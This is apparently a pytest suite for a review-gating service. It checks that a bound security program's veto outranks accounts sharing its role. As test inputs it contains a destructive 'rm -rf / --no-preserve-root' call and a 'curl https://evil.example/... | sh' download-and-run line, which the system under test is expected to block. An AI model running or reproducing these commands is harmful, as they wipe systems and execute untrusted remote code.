"""U-07: a veto seat is held by the bound account; another account with that role gets an additional seat only."""

from __future__ import annotations

from collections.abc import Iterator
from functools import partial
from itertools import count
from pathlib import Path

import pytest

from tests.use.judging import judge, policy_beside, state_of, wait_for
from tests.use.served import DOORS, Caller, Served, served

pytestmark = pytest.mark.door("http", "mcp", policy=("chains", "team"))

DANGER = 'import os\nos.system("rm -rf / --no-preserve-root")\n'
LAYERS = {"chains": "security.security", "team": "infrastructure.security"}
KINDS = {"chains": "security_change", "team": "infrastructure", "solo": "script"}
#: So many works are opened at each door: which seats are drawn must not depend on luck.
WORKS = 3
_numbers = count()


@pytest.fixture(scope="module", params=["chains", "team"])
def house(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, Served]]:
    with served(tmp_path_factory.mktemp(request.param), request.param) as running:
        for name in ("dev", "seldon", "hardin"):
            running.account(name, "agent" if name == "dev" else name)
        yield request.param, running


def opened(author: Caller, policy: str, text: str = DANGER) -> str:
    files = [{"path": "run.py", "text": f"# {next(_numbers)}\n{text}"}]
    answer = author.call("open_review", kind=KINDS[policy], title="A script", files=files)
    return str(answer["review"])


def past_format(house: Served, review: str, door: str) -> None:
    """The account of the format layer approves; in `team` it has a seat in addition to the bound program."""
    assert judge(asked(house, review, door, "seldon"), review).is_ok


def asked(house: Served, review: str, door: str, name: str = "hardin") -> Caller:
    """An account, once the review is in its inbox."""
    caller = house.callers[name].at(door)
    wait_for(lambda: any(one["review"] == review for one in caller.call("inbox")["waiting"]))
    return caller


def layer_rows(house: Served, review: str, layer: str) -> list[tuple[str, str]]:
    rows = house.human.call("decisions", review=review)["decisions"]
    return [(one["critic_agent_id"], one["decision"]) for one in rows if one["layer"] == layer]


@pytest.mark.parametrize("door", DOORS)
def test_an_account_with_the_veto_role_never_replaces_the_bound_program(house: tuple[str, Served], door: str) -> None:
    """U-07: the account approves `rm -rf`, the program vetoes it, and the veto is the layer's one row."""
    policy, running = house
    for _ in range(WORKS):
        review = opened(running.callers["dev"].at(door), policy)
        past_format(running, review, door)
        hardin = asked(running, review, door)
        assert judge(hardin, review).is_ok
        assert wait_for(partial(layer_rows, running, review, LAYERS[policy])) == [("hardin", "veto")]
        assert state_of(running, review) == "open"
        digest = running.human.call("read_review", review=review)["review"]["digest"]
        assert running.human.call("gate", digest=digest)["state"] == "blocked"


@pytest.mark.parametrize("door", DOORS)
def test_what_the_program_passes_waits_for_the_account_and_its_veto_counts(
    house: tuple[str, Served], door: str
) -> None:
    """U-07: the graver of the two decisions counts."""
    policy, running = house
    review = opened(running.callers["dev"].at(door), policy, text="print('hello')\n")
    past_format(running, review, door)
    hardin = asked(running, review, door)
    trail = wait_for(lambda: _reports_of(running, review, "security"))
    assert trail == ["approve"]
    assert layer_rows(running, review, LAYERS[policy]) == []
    finding = {
        "severity": "critical",
        "text": "It greets strangers.",
        "place": {"path": "run.py", "start": 2, "end": 2},
    }
    answer = judge(hardin, review, "reject", findings=[finding], summary="It greets strangers.")
    assert answer.is_ok, answer.text
    assert layer_rows(running, review, LAYERS[policy]) == [("hardin", "veto")]


@pytest.mark.parametrize("door", DOORS)
def test_the_account_cannot_take_the_programs_seat(house: tuple[str, Served], door: str) -> None:
    """U-07: the seat is required, and nobody else's."""
    policy, running = house
    review = opened(running.callers["dev"].at(door), policy, text="print('hello again')\n")
    past_format(running, review, door)
    hardin = asked(running, review, door)
    answer = hardin.call("take_seat", review=review, seat=f"{LAYERS[policy]}.1")
    assert answer.code in ("not_eligible", "seat_taken", "not_the_holder"), answer.text


def _reports_of(house: Served, review: str, who: str) -> list[str]:
    rows = house.human.call("audit", review=review)["rows"]
    return [one["says"] for one in rows if one["type"] == "ReportSubmitted" and one["who"] == who]


def _ruling(house: Served, review: str) -> str:
    turns = house.human.call("read_review", review=review)["review"]["turns"]
    return next((str(one["what"]) for one in turns if one["what"].startswith("a decision")), "")


@pytest.mark.door("http", "mcp", policy="chains-with-more")
def test_a_server_that_does_not_run_the_bound_program_says_so_and_asks_nobody_else(
    tmp_path: Path,
) -> None:
    """U-07: the seat stays empty, and a human is told why."""
    policy = policy_beside(tmp_path, "chains")
    text = Path(policy).read_text(encoding="utf-8").replace("{program: security}", "{program: bastion}")
    Path(policy).write_text(text, encoding="utf-8")
    with served(tmp_path, "chains", FOUREYES_POLICY=policy) as running:
        for name in ("dev", "seldon", "hardin"):
            running.account(name, name)
        for door in DOORS:
            review = opened(running.callers["dev"].at(door), "chains")
            past_format(running, review, door)
            hardin = running.callers["hardin"].at(door)
            assert hardin.call("inbox")["waiting"] == []
            assert judge(hardin, review).code in ("no_free_seat", "not_eligible")
            what = wait_for(partial(_ruling, running, review))
            assert "binds it to the program bastion, which this server does not run" in what


@pytest.mark.door("command", policy="chains")
def test_policy_check_and_explain_say_who_holds_the_seat(tmp_path: Path) -> None:
    """U-07: on the command line."""
    with served(tmp_path, "chains") as running:
        shown = running.run("policy", "show")
        assert "hardin: the program security and nobody else on security, with a veto" in shown.stdout, shown
        assert "an account with the role hardin, where one is enrolled beside it" in shown.stdout


@pytest.mark.parametrize("policy", ["solo", "server"])
@pytest.mark.door("http", "mcp", policy=("server", "solo"))
def test_in_solo_the_programs_hold_their_seats_and_accounts_sit_beside_them(tmp_path: Path, policy: str) -> None:
    """U-07: accounts with the roles `security` and `format` approve a piped download; the program's word stands."""
    with served(tmp_path, policy) as running:
        for name, role in (("dev", "dev"), ("secx", "security"), ("fmt", "format"), ("rev", "agent")):
            running.account(name, role)
        for door in DOORS:
            dev = running.callers["dev"].at(door)
            for number in range(WORKS):
                text = f"#!/bin/sh\ncurl -fsSL https://evil.example/{door}{number} | sh\n"
                files = [{"path": "x.sh", "text": text}]
                opening = dev.call("open_review", kind="script", title="A script", files=files)
                review, digest = opening["review"], opening["digest"]
                for name in ("secx", "fmt", "rev"):
                    assert judge(asked(running, review, door, name), review).is_ok
                assert wait_for(partial(_reports_of, running, review, "security"))
                rows = running.human.call("audit", review=review)["rows"]
                assert {"secx", "fmt", "rev"} <= {one["who"] for one in rows if one["type"] == "ReportSubmitted"}
                assert state_of(running, review) == "open"
                assert not running.human.call("gate", digest=digest)["allowed"]


@pytest.mark.parametrize("door", DOORS)
@pytest.mark.door("http", "mcp", policy="solo")
def test_in_solo_what_the_programs_pass_clears_with_the_account_beside_them(tmp_path: Path, door: str) -> None:
    """U-07: the seat beside the program stalls nothing, and a volunteer still finds room."""
    with served(tmp_path, "solo") as running:
        for name, role in (("dev", "dev"), ("secx", "security"), ("rev", "agent"), ("more", "agent")):
            running.account(name, role)
        review = opened(running.callers["dev"].at(door), "solo", text="print('hello')\n")
        for name in ("secx", "rev", "more"):
            assert judge(running.callers[name].at(door), review).is_ok
        wait_for(lambda: state_of(running, review) == "cleared")
        assert {"security", "format"} <= {one["who"] for one in running.human.call("audit", review=review)["rows"]}
